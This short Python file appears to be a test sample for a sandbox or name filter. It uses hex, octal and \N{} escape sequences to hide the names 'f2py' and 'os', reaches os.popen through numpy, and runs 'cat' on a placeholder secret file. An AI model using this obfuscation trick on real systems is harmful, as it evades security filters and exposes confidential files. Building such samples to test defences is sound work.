"""Names as escapes in text, for whoever takes text as a name."""
import numpy as np
print(getattr(getattr(np, "\x66\x32\x70\x79"), "\N{LATIN SMALL LETTER O}\163").popen("cat @SECRET_FILE@").read())
